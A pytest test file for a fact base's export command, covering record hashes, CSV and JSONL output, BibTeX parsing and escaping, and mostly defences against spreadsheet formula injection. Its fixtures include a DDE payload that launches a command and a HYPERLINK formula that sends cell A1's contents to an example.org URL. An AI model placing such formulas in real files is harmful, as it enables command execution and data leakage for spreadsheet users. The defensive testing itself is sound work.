"""What is exported: every entity with id and hash, the same bytes twice, BibTeX that parses, and no document's text."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from pathlib import Path

import pytest

from bot.cli import export, export_seeds
from bot.cli.export import EXPORTED
from bot.cli.main import yrd
from bot.state.contributions import StoredContributions
from bot.state.store import Store
from handlers.curation.projection import replay
from handlers.records.styles import bibtex
from knowledge import build
from knowledge.base import FactBase
from knowledge.model import Document
from knowledge.seeds import Seeds
from tests.cli.test_export_seeds import PAGE, approved, record
from tests.conftest import SEEDS
from tests.knowledge.papers import PAPER

BLANKS = ("", " ", "\t", "\u3000", "\u200b", "\ufeff", " \u202e ")
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "⁼")
FORMULA = r"[\s\u200b\ufeff\u202e]*[=+\-@＝＋－＠﹢⁼\t\r\n]"
BEHIND = (
    'HYPERLINK("https://example.org","x")',
    "1+2",
    "cmd|' /C calc'!A0",
    "",
    "SUM(A1)\r\n=2",
    "'",
    "2018-2019",
)
NUMBERS = ("-2.5", "+3", "1e5", "-1E-5", "-12%", "+12 %", "-1,200.5", "-.5", " -7 ")
PLAIN = ("", "Hangzhou", "a = b", "'quoted'", "'tis", "2018-2019", "“=1”", "a\rb", "a\n=b", "—", "−2", "·@")


def written(base: FactBase, what: str, form: str = "jsonl") -> str:
    target = io.StringIO()
    assert export.write(base, what, form, target) == 0
    return target.getvalue()


def test_every_sort_of_record_but_the_paragraphs_can_be_exported() -> None:
    # What tells talk is no record: numbers that say nothing without the encoder.
    assert set(EXPORTED) == set(Seeds.__slots__) - {"paragraphs", "talk"}


@pytest.mark.parametrize("what", EXPORTED)
def test_every_line_has_an_id_of_its_own_and_the_hash_of_the_rest(base: FactBase, what: str) -> None:
    rows = [json.loads(line) for line in written(base, what).splitlines()]
    ids = [row.get("id") or row["slug"] for row in rows]
    assert len(ids) == len(set(ids)) == len(getattr(base.seeds, what))
    assert ids == sorted(ids)
    for row in rows:
        stated = row.pop("content_sha256")
        content = json.dumps(row, ensure_ascii=False, sort_keys=True)
        assert stated == hashlib.sha256(content.encode()).hexdigest()


@pytest.mark.parametrize("what", EXPORTED)
def test_csv_holds_the_same_with_lists_as_json_in_the_cell(base: FactBase, what: str) -> None:
    lines = [json.loads(line) for line in written(base, what).splitlines()]
    rows = list(csv.DictReader(io.StringIO(written(base, what, "csv"))))
    assert written(base, what, "csv") == written(base, what, "csv")
    assert len(rows) == len(lines)
    for row, line in zip(rows, lines, strict=True):
        assert row.keys() == line.keys()
        for key, value in line.items():
            assert value_of(row[key], value) == ("" if value is None else value)


def value_of(text: str, like: object) -> object:
    """What a program reads in a cell, knowing of which type it was."""
    if isinstance(like, list | dict | bool):
        return json.loads(text)
    if isinstance(like, int | float):
        return type(like)(text)
    return text[1:] if re.match("'+" + FORMULA, text) else text


def through_a_file(*values: object) -> list[str]:
    """What a reader of CSV finds in a row of these values."""
    target = io.StringIO(newline="")
    export.write_csv([{str(at): value for at, value in enumerate(values)}], target)
    return list(next(csv.DictReader(io.StringIO(target.getvalue(), newline=""))).values())


@pytest.mark.parametrize("blank", BLANKS)
@pytest.mark.parametrize("sign", SIGNS)
def test_no_text_is_a_formula_in_a_spreadsheet_and_each_can_be_read_back(blank: str, sign: str) -> None:
    for quotes in ("", "'", "''"):
        texts = [f"{quotes}{blank}{sign}{behind}" for behind in BEHIND]
        for text, found in zip(texts, through_a_file(*texts), strict=True):
            assert found == "'" + text


@pytest.mark.parametrize(
    "text", ["\tx", "\rx", "\nx", "\r\n", "'\tx", "-0+1", "+86 571 8888", "＋3", "-", "- 5", "-１"]
)
def test_what_begins_with_an_end_of_a_cell_or_only_looks_like_a_number_is_quoted(text: str) -> None:
    assert list(through_a_file(text)) == ["'" + text]


@pytest.mark.parametrize("parted_at", [";", "\t", "|", ":"])
def test_no_text_is_parted_where_a_spreadsheet_parts_cells_otherwise(parted_at: str) -> None:
    target = io.StringIO(newline="")
    export.write_csv([{"statement": f"Ports{parted_at}=1+1"}], target)
    # The one column is one column still, whatever parts them.
    rows = list(csv.reader(io.StringIO(target.getvalue(), newline=""), delimiter=parted_at))
    assert rows == [["statement"], [f"Ports{parted_at}=1+1"]]


@pytest.mark.parametrize("value", [*NUMBERS, *PLAIN, -2.5, -3, 1e-5, 0])
def test_numbers_stay_numbers_and_other_text_stays_as_it_is(value: object) -> None:
    assert list(through_a_file(value, "end")) == [str(value), "end"]


@pytest.mark.parametrize("what", EXPORTED)
def test_only_csv_begins_with_a_byte_order_mark_and_only_when_it_is_asked_for(
    base: FactBase, what: str
) -> None:
    marked = io.StringIO()
    export.write(base, what, "csv", marked, bom=True)
    assert marked.getvalue() == "\ufeff" + written(base, what, "csv")
    assert "\ufeff" not in written(base, what, "csv") + written(base, what)


@pytest.mark.parametrize(
    "arguments",
    [
        ["facts"],
        ["facts", "--format", "jsonl"],
        ["documents", "--format", "bibtex"],
        ["contributions", "--to", "x"],
    ],
)
def test_a_byte_order_mark_is_for_csv_alone(
    arguments: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit, match="2"):
        yrd.main(["export", *arguments, "--bom"])
    assert capsys.readouterr().err == "--bom is for CSV alone: yrd export facts --format csv --bom.\n"


def test_what_an_approved_proposal_says_is_no_formula_in_what_is_exported(
    base: FactBase, tmp_path: Path
) -> None:
    called = 'HYPERLINK("https://example.org/?x="&A1,"Ningbo and Hefei opened a joint harbour office")'
    hostile = {first: (f"{first}{called}", f"{first}1+2", f"{first}A1", f"{first}B2") for first in "=+-@＝"}
    drafts = (
        PAGE.model_copy(
            update={"url": f"https://example.org/news/{number}"}
            | dict(zip(("statement", "speaker", "caveat", "title"), texts, strict=True))
        )
        for number, texts in enumerate(hostile.values())
    )
    store = Store.open(tmp_path / "state.db")
    for event in approved(*drafts):
        record(store, event)
    kept = replay(StoredContributions(store).events("T1"))
    store.close()
    assert export_seeds.write(base, kept, SEEDS, tmp_path / "seeds") == 0
    build.build(tmp_path / "seeds", tmp_path / "facts.db")
    theirs = FactBase.open(tmp_path / "facts.db")
    said: list[str] = []
    for what in EXPORTED:
        for row in csv.DictReader(io.StringIO(written(theirs, what, "csv"), newline="")):
            said += row.values()
            assert not [
                text for text in row.values() if re.match(FORMULA, text) and text.strip("-.0123456789")
            ]
    assert {f"'{text}" for texts in hostile.values() for text in texts} <= set(said)


def test_a_fact_says_where_it_comes_from(base: FactBase) -> None:
    rows = {row["id"]: row for row in map(json.loads, written(base, "facts").splitlines())}
    for fact in base.facts:
        row = rows[fact.id]
        assert row["documents"] == list(fact.documents)
        assert row["was_quoted_from"] == [f"{c.document}#para-{c.paragraph}" for c in fact.citations]
        assert not fact.speaker or row["was_attributed_to"] == [fact.speaker]
        assert row["asks"] == list(fact.asks)
        assert "supplied" not in row


# As BibTeX itself reads it: an entry, fields, values in balanced braces or a macro of a month.
ENTRY = re.compile(r"@(?P<sort>misc|article)\{(?P<key>[a-z0-9-]+),\n(?P<fields>(?:  [a-z]+ = .+,\n)+)\}\n")
FIELD = re.compile(r"  (?P<name>[a-z]+) = (?:\{(?P<value>.*)\}|(?P<month>[a-z]{3})),\n")


def parsed(text: str) -> dict[str, dict[str, str]]:
    entries = {}
    at = 0
    for found in ENTRY.finditer(text):
        assert text[at : found.start()].strip() == ""
        at = found.end()
        fields = {f["name"]: f["value"] or f["month"] for f in FIELD.finditer(found["fields"])}
        assert len(fields) == found["fields"].count("\n")
        for value in fields.values():
            unescaped = re.sub(r"\\[\\{}]", "", value)
            assert unescaped.count("{") == unescaped.count("}")
        entries[found["key"]] = fields
    assert text[at:].strip() == ""
    return entries


def test_the_documents_are_valid_bibtex_and_undated_ones_say_so(base: FactBase) -> None:
    entries = parsed(bibtex.entries(base.seeds.documents))
    assert list(entries) == sorted(document.slug for document in base.seeds.documents)
    for document in base.seeds.documents:
        fields = entries[document.slug]
        assert fields["year"] == (document.published[:4] or "n.d.")
        assert document.published or "Undated." in fields["note"]
    assert entries["xu-homogenization"]["author"] == "Xu, Qimin"
    assert entries["xu-homogenization"]["journal"] == "Wenhui Daily"
    assert entries["xu-homogenization"]["month"] == "jun"


def test_what_tex_would_read_as_a_command_is_escaped() -> None:
    nasty = Document(**(PAPER.model_dump() | {"title": r"50 % of A&B_{x} ~ #1 \end $5^2$"}))
    fields = parsed(bibtex.entry(nasty))["paper"]
    assert fields["title"] == (
        r"{50 \% of A\&B\_\{x\} \textasciitilde{} \#1 \textbackslash{}end \$5\textasciicircum{}2\$}"
    )
